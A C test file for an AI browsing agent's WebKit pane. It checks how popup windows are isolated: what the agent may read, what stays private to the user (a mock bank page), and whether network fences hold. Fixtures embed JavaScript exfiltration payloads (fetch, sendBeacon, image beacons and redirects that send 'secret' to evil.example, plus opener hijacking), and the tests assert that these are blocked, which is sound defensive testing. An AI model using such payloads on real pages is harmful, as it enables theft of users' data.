/* test-pane-windows.c
 *
 * Windows that pages open: WebKit lets them share their page's content manager, so what the agent
 * sees of each, what the user keeps for themselves, and which fence they stand behind.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "tool-case.h"

#include "annex-future.h"

#include <string.h>

#define COMPUTER "http://localhost.computer:8000/"

static AnnexBrowserTab *
front (Case *c)
{
  return annex_browser_pane_get_selected (c->pane->pane);
}

/* Runs @script as a person's click would, until it has opened a window. */
static AnnexBrowserTab *
open_window (Case *c, const char *script)
{
  AnnexBrowserTab *opener = front (c);
  g_autofree char *done = pane_fixture_script (c->pane, script);

  pane_wait_until (front (c) != opener);
  return front (c);
}

static gboolean
is_at (AnnexBrowserTab *tab, const char *title)
{
  return g_str_equal (annex_browser_tab_get_title (tab), title) &&
         !annex_browser_tab_is_loading (tab);
}

/* ---------------------------------------------------------------- what the agent sees */

static const struct
{
  const char *path;
  const char *script;
  const char *words;
} windows[] = {
  { "/browser/windows/script", "w = window.open('/next'); 1", "You are there" },
  { "/browser/windows/link", "a.click(); 1", "You are there" },
  { "/browser/windows/no-opener", "w = window.open('/next', '', 'noopener'); 1", "You are there" },
  { "/browser/windows/led", "w = window.open(''); w.location = '/next'; 1", "You are there" },
  { "/browser/windows/written", "w = window.open(''); w.document.write('<p>By hand'); 1",
    "By hand" },
};

static const char site[] = "<title>Site</title><p>hello<a id=a target=_blank href='/next'>x</a>"
                           "<iframe srcdoc='<p>framed'></iframe>";

/* Each is read as itself, whoever opened it, and the page that opened it still is. */
static void
test_reading (gconstpointer data)
{
  guint n = GPOINTER_TO_UINT (data);
  g_autoptr (Case) c = case_new (site);
  g_autofree char *page = open_page (c);
  AnnexBrowserTab *opener = front (c);
  AnnexBrowserTab *window;
  g_autofree char *input =
      g_strdup_printf ("{\"action\":\"select\",\"index\":%u}", annex_browser_tab_get_id (opener));
  g_autofree char *seen = NULL;
  g_autofree char *again = NULL;
  g_autofree char *after = NULL;

  annex_browser_pane_take_over (c->pane->pane);
  window = open_window (c, windows[n].script);
  annex_browser_pane_hand_back (c->pane->pane);
  seen = call (c, "page_snapshot", "{}");
  HAS (seen, windows[n].words);
  HAS_NOT (seen, "hello");
  HAS_NOT (seen, "framed");
  again = call (c, "page_tabs", input);
  HAS (again, "hello");
  HAS_NOT (again, windows[n].words);
  annex_browser_pane_close_tab (c->pane->pane, window);
  g_assert_true (front (c) == opener);
  after = open_page (c);
  HAS (after, "hello");
  HAS (after, "framed");
}

/* The frames of a window are its own, and read with it while its opener is open, too. */
static void
test_frames (void)
{
  g_autoptr (Case) c = case_new (site);
  g_autofree char *page = open_page (c);
  AnnexBrowserTab *opener = front (c);
  AnnexBrowserTab *window;
  g_autofree char *input =
      g_strdup_printf ("{\"action\":\"select\",\"index\":%u}", annex_browser_tab_get_id (opener));
  g_autofree char *seen = NULL;
  g_autofree char *again = NULL;

  pane_fixture_page (c->pane, "site.example/outer", NULL,
                     "<title>Outer</title><p>outer<iframe srcdoc='<p>inside'></iframe>"
                     "<iframe src='/inner'></iframe>");
  pane_fixture_page (c->pane, "site.example/inner", NULL,
                     "<p>inner<iframe srcdoc='<p>innermost'></iframe>");
  annex_browser_pane_take_over (c->pane->pane);
  window = open_window (c, "w = window.open('/outer'); 1");
  pane_wait_until (is_at (window, "Outer"));
  annex_browser_pane_hand_back (c->pane->pane);
  for (guint i = 0; i < 20 && (seen == NULL || strstr (seen, "innermost") == NULL); i++)
    {
      g_free (seen);
      pane_wait_ms (300);
      seen = call (c, "page_snapshot", "{}");
    }
  HAS (seen, "outer");
  HAS (seen, "inside");
  HAS (seen, "innermost");
  HAS_NOT (seen, "framed");
  again = call (c, "page_tabs", input);
  HAS (again, "framed");
  HAS_NOT (again, "inside");
  HAS_NOT (again, "inner");
}

/* The agent's own click opens one as a person's does, however long after anything else; a script of
 * the page opens none without it, before and after. */
static void
test_click (void)
{
  g_autoptr (Case) c =
      case_new ("<title>Site</title><a target=_blank href='/next'>x</a>"
                "<script>const popup = () => { window.open('/popup') }; setTimeout(popup, 1000);"
                "document.querySelector('a').onclick = () => { setTimeout(popup, 1500) }</script>");
  g_autofree char *page = open_page (c);
  AnnexBrowserTab *opener = front (c);
  g_autofree char *seen = NULL;

  pane_wait_ms (2000);
  g_assert_true (front (c) == opener);
  seen = call (c, "page_click", "{\"target\":\"e1\"}");
  g_assert_true (front (c) != opener);
  HAS (seen, "You are there");
  pane_wait_ms (2000);
  g_assert_false (pane_fixture_was_asked (c->pane, "GET site.example/popup"));
}

/* What the user opens in one for themselves is not told as the other's. */
static void
test_own_window (void)
{
  g_autoptr (Case) c = case_new (site);
  AnnexBrowserPane *pane = c->pane->pane;
  g_autofree char *page = open_page (c);
  AnnexBrowserTab *opener = front (c);
  AnnexBrowserTab *window;
  g_autofree char *input = NULL;
  g_autofree char *seen = NULL;
  g_autofree char *found = NULL;

  pane_fixture_name (c->pane, "bank.example");
  pane_fixture_page (c->pane, "bank.example/", NULL,
                     "<title>Bank</title>Balance: 1234<iframe src='/inner'></iframe>");
  pane_fixture_page (c->pane, "bank.example/inner", NULL, "Debts: 5678");
  annex_browser_pane_take_over (pane);
  window = open_window (c, "w = window.open('http://bank.example/'); 1");
  pane_wait_until (is_at (window, "Bank"));
  annex_browser_pane_select (pane, opener);
  annex_browser_pane_hand_back (pane);
  for (guint i = 0; i < 3; i++)
    {
      g_clear_pointer (&seen, g_free);
      pane_wait_ms (200);
      seen = call (c, "page_snapshot", "{}");
      HAS (seen, "hello");
      HAS_NOT (seen, "Balance");
      HAS_NOT (seen, "Debts");
    }
  found = call (c, "page_find", "{\"text\":\"1234\"}");
  HAS_NOT (found, "Balance");
  input =
      g_strdup_printf ("{\"action\":\"select\",\"index\":%u}", annex_browser_tab_get_id (window));
  call_fails (c, "page_tabs", input, ANNEX_BROWSER_ERROR_REFUSED);
  /* Nor does it come to the front by itself. */
  g_clear_pointer (&seen, g_free);
  seen = open_page (c);
  HAS (seen, "hello");
}

/* A written window is its page's: who hands it over hands over that. */
static void
test_handing_over_a_written_window (void)
{
  g_autoptr (Case) c = case_new (site);
  AnnexBrowserPane *pane = c->pane->pane;
  AnnexBrowserTab *own;
  AnnexBrowserTab *window;
  g_autofree char *seen = NULL;

  pane_fixture_name (c->pane, "bank.example");
  pane_fixture_page (c->pane, "bank.example/", NULL, "<title>Bank</title>");
  annex_browser_pane_take_over (pane);
  own = annex_browser_pane_open (pane, NULL);
  webkit_web_view_load_uri (annex_browser_tab_get_view (own), "http://bank.example/");
  pane_wait_until (is_at (own, "Bank"));
  window = open_window (c, "w = window.open(''); w.document.write('Balance: 1234'); 1");
  g_assert_false (annex_browser_pane_may_look (pane, window));
  annex_browser_pane_hand_back (pane);
  seen = call (c, "page_snapshot", "{}");
  HAS (seen, "Balance: 1234");
  g_assert_cmpuint (c->pane->asked->len, ==, 0);
}

/* ---------------------------------------------------------------- the fences */

static void
add_evil (Case *c)
{
  pane_fixture_name (c->pane, "evil.example");
  pane_fixture_page (c->pane, "evil.example/x", NULL, "evil");
}

static void
assert_nothing_left (Case *c)
{
  g_assert_cmpuint (pane_fixture_count_host (c->pane, "evil.example"), ==, 0);
  g_assert_null (pane_fixture_row (c->pane, "evil.example"));
}

#define SENDS                                                                                      \
  "setInterval(() => { fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors',"           \
  " body: 'secret'}).catch(() => {});"                                                             \
  "navigator.sendBeacon('http://evil.example/x', 'secret') }, 50);"

/* While Annex drives, and after it until the user's hand comes; then it is theirs, as one. */
static void
test_guard_of_a_window (void)
{
  g_autoptr (Case) c = case_new ("<title>Site</title>");
  g_autofree char *page = open_page (c);

  add_evil (c);
  pane_fixture_page (c->pane, "site.example/sends", NULL,
                     "<title>Sends</title><p>Window<script>" SENDS "</script>");
  open_window (c, "w = window.open('/sends'); 1");
  pane_wait_until (is_at (front (c), "Sends"));
  pane_wait_ms (400);
  assert_nothing_left (c);
  annex_browser_end (ANNEX_BROWSER (c->pane->pane));
  pane_wait_ms (400);
  assert_nothing_left (c);
  annex_browser_pane_touch (c->pane->pane, front (c));
  pane_wait_until (pane_fixture_row (c->pane, "evil.example") != NULL);
  g_assert_cmpstr (pane_fixture_row (c->pane, "evil.example")->by, ==, "user");
}

static Case *
new_computer_case (void)
{
  Case *c = case_new ("<title>Site</title><p>hello");

  add_evil (c);
  pane_fixture_page (c->pane, "site.example/x", NULL, "x");
  pane_fixture_page (c->pane, "localhost.computer:8000/", NULL,
                     "<title>Mine</title><a id=own target=_blank href='/own'>x</a>"
                     "<a id=away target=_blank href='http://evil.example/x?secret'>x</a>");
  pane_fixture_page (c->pane, "localhost.computer:8000/own", NULL,
                     "<title>Own</title><script>" SENDS
                     "setInterval(() => { new Image().src = 'http://evil.example/x?secret' }, 50);"
                     "setTimeout(() => { location = 'http://evil.example/x?secret' }, 300)"
                     "</script>");
  pane_fixture_serve_computer (c->pane);
  return c;
}

static const char *const computer_windows[] = {
  "w = window.open('/own'); 1",
  "own.click(); 1",
  "w = window.open('/own', '', 'noopener'); 1",
  "w = window.open(''); w.location = '/own'; 1",
};

/* What a page of the computer's opens has no more than that page, whoever drives. */
static void
test_fence_of_a_window (gconstpointer data)
{
  g_autoptr (Case) c = new_computer_case ();
  AnnexBrowserTab *own = annex_browser_pane_open (c->pane->pane, COMPUTER);
  AnnexBrowserTab *window;
  g_autofree char *away = NULL;

  pane_wait_until (is_at (own, "Mine"));
  window = open_window (c, data);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (window), "Own"));
  pane_wait_ms (800);
  assert_nothing_left (c);
  annex_browser_pane_touch (c->pane->pane, front (c));
  pane_wait_ms (300);
  assert_nothing_left (c);
  annex_browser_pane_select (c->pane->pane, own);
  away = pane_fixture_script (c->pane, "away.click(); 1");
  pane_wait_ms (400);
  assert_nothing_left (c);
}

/* A window of its own is no way to a site that is allowed, neither when the user goes on to that
 * site in it nor when they do where it was opened. */
static void
test_computer_leads_no_window (gconstpointer data)
{
  gboolean in_window = GPOINTER_TO_INT (data);
  g_autoptr (Case) c = new_computer_case ();
  g_autofree char *leads = NULL;
  AnnexBrowserPane *pane = c->pane->pane;
  AnnexBrowserTab *own;
  AnnexBrowserTab *window;

  pane_fixture_page (
      c->pane, "localhost.computer:8000/quiet", NULL,
      "<title>Quiet</title><script>setInterval(() => { try { (window.opener || {}).location ="
      "'http://site.example/x?secret' } catch (e) {} }, 50)</script>");
  own = annex_browser_pane_open (pane, COMPUTER);
  pane_wait_until (is_at (own, "Mine"));
  window = open_window (c, "w = window.open('/quiet'); 1");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (window), "Quiet"));
  annex_browser_pane_select (pane, own);
  leads = pane_fixture_script (
      c->pane, "setInterval(() => { w.location = 'http://site.example/x?secret' }, 50); 1");
  annex_browser_pane_load (pane, in_window ? window : own, "http://site.example/");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (front (c)), "Site"));
  pane_wait_ms (800);
  g_assert_false (pane_fixture_was_asked (c->pane, "GET site.example/x"));
  g_assert_true (front (c) != own && front (c) != window);
  /* The agent does not either. */
  annex_browser_pane_select (pane, in_window ? window : own);
  g_set_str (&c->pane->answer, "task");
  annex_browser_pane_hand_back (pane);
  g_free (open_page (c));
  g_assert_true (front (c) != own && front (c) != window);
  pane_wait_ms (300);
  g_assert_false (pane_fixture_was_asked (c->pane, "GET site.example/x"));
}

/* Nor does a site get hold of a window on the computer's page. */
static void
test_site_leads_no_window (void)
{
  g_autoptr (Case) c = new_computer_case ();
  AnnexBrowserPane *pane = c->pane->pane;
  AnnexBrowserTab *own = annex_browser_pane_open (pane, COMPUTER);
  AnnexBrowserTab *opener;
  AnnexBrowserTab *window;

  pane_wait_until (is_at (own, "Mine"));
  opener = annex_browser_pane_open (pane, "http://site.example/");
  pane_wait_until (is_at (opener, "Site"));
  g_ptr_array_set_size (c->pane->requests, 0);
  window = open_window (c, "w = window.open('about:blank');"
                           "setInterval(() => { w.location = '" COMPUTER "' }, 50); 1");
  pane_wait_ms (600);
  g_assert_false (pane_fixture_was_asked (c->pane, "GET localhost.computer:8000/"));
  /* What the user types in it comes in a tab of its own. */
  annex_browser_pane_load (pane, window, COMPUTER);
  pane_wait_until (is_at (front (c), "Mine"));
  g_assert_true (front (c) != window && front (c) != opener);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  dex_init ();
  gtk_init ();
  for (guint i = 0; i < G_N_ELEMENTS (windows); i++)
    g_test_add_data_func (windows[i].path, GUINT_TO_POINTER (i), test_reading);
  g_test_add_func ("/browser/windows/frames", test_frames);
  g_test_add_func ("/browser/windows/click", test_click);
  g_test_add_func ("/browser/windows/own", test_own_window);
  g_test_add_func ("/browser/windows/handing-over", test_handing_over_a_written_window);
  g_test_add_func ("/browser/windows/guard", test_guard_of_a_window);
  for (guint i = 0; i < G_N_ELEMENTS (computer_windows); i++)
    {
      g_autofree char *path = g_strdup_printf ("/browser/windows/fence-%u", i);

      g_test_add_data_func (path, computer_windows[i], test_fence_of_a_window);
    }
  g_test_add_data_func ("/browser/windows/computer-leads-none", GINT_TO_POINTER (FALSE),
                        test_computer_leads_no_window);
  g_test_add_data_func ("/browser/windows/computer-leads-none-of-its-own", GINT_TO_POINTER (TRUE),
                        test_computer_leads_no_window);
  g_test_add_func ("/browser/windows/site-leads-none", test_site_leads_no_window);
  return g_test_run ();
}
